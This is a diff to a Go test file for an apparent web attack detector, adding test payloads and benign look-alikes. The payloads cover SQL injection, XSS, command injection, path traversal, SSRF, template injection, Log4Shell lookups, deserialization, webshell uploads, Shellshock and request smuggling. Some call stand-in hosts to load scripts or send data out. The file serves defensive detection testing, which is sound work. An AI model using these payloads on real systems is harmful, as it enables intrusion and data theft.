@@ -21,26 +21,28 @@ func TestTechniques(t *testing.T) {
 			"1'||utl_http.request('http://192.0.2.1/'||user)||'", "1' group by 1,2,3,4-- -", "1'; update users set password='x' where id=1--", "1; DROP TABLE users",
 			"x','y','z');-- ", "x'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'", "1'^(select 1)^'1", "1;COPY cmd_exec FROM PROGRAM 'id';--",
 			"qwert')) UNION SELECT id, email, password FROM Users--", "1' and password regexp '^a'#", "*)(uid=*))(|(uid=*", "admin)(&)", "'] | //user/*[contains(*,'", "1 and 1=2",
+			"' or ''='", "'=''or'", "admin'/*", "if(now()=sysdate(),sleep(5),0)", "1-sleep(5)", "fizzy'||1||'", "']|//user/*|//a['", "'; while(true){}",
 			"1 AND 3710=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1)", "1) AND 'xncm'=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(6456),0),5000000000),NULL)", "1);CALL REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),500000000),NULL)--",
 		},
 		Scripting: {
 			"<script>console.log(document.domain)</script>", "<script src=//hook.example/h.js></script>", "<img/src/onerror=alert`1`>", "<svg><animate onbegin=alert(1) attributeName=x>",
 			"<details open ontoggle=print()>", "\" onmouseover=\"alert(1)", "';alert(1)//", "'-alert(1)-'", "javascript:alert(document.cookie)", "data:text/html;base64,PHNjcmlwdD4=",
 			"<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<x onpointerenter=alert(1)>x", "<object data=\"javascript:alert(1)\">", "<scr<script>ipt>alert(1)</script>", "<base href=//evil.example/>",
+			"<object data=data:text/html;base64,PHNjcmlwdD4=></object>", "<script src=http://192.0.2.7/x.js></script>",
 		},
 		Command: {
 			"127.0.0.1;id", "127.0.0.1|whoami", "`id`", "$(id)", "127.0.0.1\nid", "x || id", "x$(sleep 10)x", "127.0.0.1 & dir C:\\", "127.0.0.1&net user", "';id;'", "127.0.0.1;env",
-			"127.0.0.1;cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "/???/??t /???/p??s??", "127.0.0.1;python3 -c 'import socket,os,pty'", "127.0.0.1;echo aWQ=|base64 -d|sh", "|nslookup x.example", "|id|",
+			"127.0.0.1;cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "/???/??t /???/p??s??", "127.0.0.1;python3 -c 'import socket,os,pty'", "127.0.0.1;echo aWQ=|base64 -d|sh", "|nslookup x.example", "|id|", "127.0.0.1;tac flag.php", "127.0.0.1;ca\\t /etc/passwd",
 		},
 		Traversal: {
 			"/etc/issue", "/../../../etc/group", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/hosts", "/var/log/apache2/access.log", "../../../usr/local/apache2/conf/httpd.conf", "C:\\Windows\\System32\\drivers\\etc\\hosts",
-			"../../../../tmp/x\x00.jpg",
+			"../../../../tmp/x\x00.jpg", "../../hackable/flags/fi.php", "/usr/local/tomcat/conf/tomcat-users.xml",
 		},
-		Inclusion:  {"gopher://127.0.0.1:6379/_*1", "dict://127.0.0.1:11211/stat", "http://2130706433/", "http://169.254.169.254/latest/meta-data/", "phar://a.phar/b", "http://evil.example/shell.txt?"},
-		Expression: {"{{7*7}}", "#{7*7}", "*{7*7}", "@(7*7)", "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "{{constructor.constructor(\"alert(1)\")()}}", "{system('id')}", "${T(java.lang.Runtime).getRuntime().exec(\"id\")}"},
+		Inclusion:  {"gopher://127.0.0.1:6379/_*1", "dict://127.0.0.1:11211/stat", "http://2130706433/", "http://169.254.169.254/latest/meta-data/", "phar://a.phar/b", "http://evil.example/shell.txt?", "http://127.0.0.1:22", "\\\\192.0.2.7\\share\\x"},
+		Expression: {"{{7*7}}", "#{7*7}", "*{7*7}", "@(7*7)", "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "{{constructor.constructor(\"alert(1)\")()}}", "{system('id')}", "a{{bar}}{{7*'7'}}", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")", "println 'id'.getClass().forName('a')", "${T(java.lang.Runtime).getRuntime().exec(\"id\")}"},
 		Lookup:     {"${jndi:dns://x.example}", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://192.0.2.1/a}", "${${env:A:-j}ndi${env:A:-:}ldap://192.0.2.1/a}"},
-		Object:     {"O:4:\"User\":1:{s:4:\"name\";s:1:\"a\";}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTa", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAVpZCA+IC90bXCUhZRSlC4="},
-		Code:       {"system(\"id\")", "@eval(base64_decode($_POST[z0]));", "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw=="},
+		Object:     {"O:4:\"User\":1:{s:4:\"name\";s:1:\"a\";}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTa", "Y29zCnN5c3RlbQooUydpZCcKdFIu", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAVpZCA+IC90bXCUhZRSlC4="},
+		Code:       {"system(\"id\")", "@eval(base64_decode($_POST[z0]));", "<!--#exec cmd=\"ls\" -->", "x'.system(id).'", "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw=="},
 	}
 	for kind, list := range values {
 		for _, v := range list {
@@ -78,7 +80,14 @@ func TestTechniques(t *testing.T) {
 		{Shellshock, "GET /cgi-bin/a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { 42;};echo;/usr/bin/id\r\n\r\n"},
 		{Smuggling, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"},
 		{Smuggling, get("/x?l=en%0d%0aSet-Cookie:%20a=b")},
-		{Overflow, get("/" + strings.Repeat("A", 600))},
+		{Overflow, get("/" + strings.Repeat("A", 600))}, {Overflow, "SEARCH /" + strings.Repeat("\x90", 400) + " HTTP/1.1\r\nHost: a\r\n\r\n"}, {Overflow, get("/NULL.IDA?CCCCCCCC")},
+		{SQLInjection, "POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n8\r\nid=1' un\r\n4;x=y\r\nion \r\n10\r\nselect 1,2,3-- a\r\n0\r\n\r\n"},
+		{SQLInjection, get("/index.php?option=com_contenthistory&view=history&list[select]=1")}, {SQLInjection, "GET / HTTP/1.1\r\nHost: a' or sleep(5)-- -\r\n\r\n"},
+		{Entity, post("/x", form, "xml="+url.QueryEscape(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`))},
+		{Code, "MOVE /x.txt HTTP/1.1\r\nHost: a\r\nDestination: http://a/x.asp;.txt\r\n\r\n"}, {Command, get("/shell.php?cmd=ls")}, {Command, get("/cgi-bin/;cat${IFS}/etc/passwd")},
+		{Smuggling, get("/%0d%0aLocation:%20//evil.example")}, {Inclusion, "POST /ecp/y.js HTTP/1.1\r\nHost: a\r\nCookie: X-BEResource=localhost/a.asmx?a=~1942062522\r\n\r\n"},
+		{Code, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.phtml\"\r\n\r\nGIF89a<script language='php'>eval($_POST[1]);</script>\r\n--b--\r\n")},
+		{Command, post("/up", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\npush graphic-context\nfill 'url(https://a/b.jpg\"|touch \"/tmp/x)'\r\n--b--\r\n")},
 	}
 	for _, r := range requests {
 		expectKind(t, r.kind, r.request, r.request)
@@ -96,6 +105,7 @@ func expectKind(t *testing.T, kind int, name, request string) {
 // words that attacks are made of.
 func TestInnocentValues(t *testing.T) {
 	values := []string{
+		"how to prevent ' or 1=1 -- attacks", "a'b'c", "l'art et l'homme", "src/*.js", "'a'='a'",
 		"O'Reilly", "don't look back", "women's and men's", "'quoted phrase' or 'another'", "5' 10\" tall", "select the union of two tables", "how to drop table in mysql", "union select in sql",
 		"order by price", "what is or 1=1 in sql", "javascript alert() not working", "<script> tag", "$(document).ready", "/etc/passwd format", "chmod 777 meaning", "curl http post",
 		"Name eq 'Milk' and Price gt 5 or contains(Name,'x')", "Title eq 'O''Neil' or Author eq 'x'", "STATE='CA' AND POP>1000", "1=1", "name='x' AND pop > 5 OR INTERSECTS(geom, POINT(1 2))",
@@ -111,6 +121,13 @@ func TestInnocentValues(t *testing.T) {
 		innocent(t, v, post("/search", form, "q="+url.QueryEscape(v)))
 	}
 	requests := []string{
+		post("/api/alerts", jsonType, `{"rule": "SQLi", "payload": "1' UNION SELECT 1,2--", "src": "192.0.2.7"}`), post("/events", jsonType, `{"level":"warn","message":"' OR 1=1 --"}`),
+		post("/api/v2/ingest", jsonType, `[{"message":"GET /?q=../../etc/passwd 404"}]`), post("/insights", jsonType, `{"uri":"/a?x=1;cat /etc/passwd","status":403}`),
+		post("/x", jsonType, `{"timestamp":1700000000,"user_agent":"() { :;}; /bin/bash -c id"}`), get("/loki/api/v1/query?query=%7Bapp%3D%22x%22%7D%20%7C%3D%20%22union%20select%201%22"),
+		get("/users?username[$ne]=admin&$limit=10"), post("/users/search", jsonType, `{"email":{"$regex":"@example.com$"},"active":true}`), get("/path;ls"), get("/a;type=book;sort=price"),
+		"MOVE /a.tmp HTTP/1.1\r\nHost: a\r\nDestination: http://a/b%20(1).docx\r\n\r\n", get("/index.php?page=about.php"), get("/connector.php?cmd=ls&target=l1_Lw"), get("/api.cgi?cmd=set"),
+		post("/notes", "text/plain", "5\r\nhello\r\n0\r\n\r\n"), get("/sms?msg=Hi%0aCall:%20me"), get("/hook?url=http://127.0.0.1:5000/webhook"), get("/think/app.css"),
+		"SEARCH / HTTP/1.1\r\nHost: a\r\n\r\n<?xml version=\"1.0\"?><g:searchrequest xmlns:g=\"DAV:\"><g:sql>SELECT \"DAV:displayname\" FROM scope('shallow traversal of \"/x\"')</g:sql></g:searchrequest>",
 		post("/wp-admin/post.php", form, "content="+url.QueryEscape(`<p>Hello</p><script>var a = 1;</script><img src="a.png" onload="fit(this)">`)),
 		post("/paste", form, "text="+url.QueryEscape("#!/bin/bash\ncd /tmp; wget http://example.org/a.tar.gz && tar xzf a.tar.gz\nchmod +x a/run.sh\nrm -rf a\ncat /etc/hosts")),
 		post("/wiki", form, "text="+url.QueryEscape("== Joins ==\n<pre>SELECT a.id FROM a LEFT JOIN b WHERE a.x='1' OR b.y='2' ORDER BY a.id; DROP TABLE tmp; -- done</pre>")),
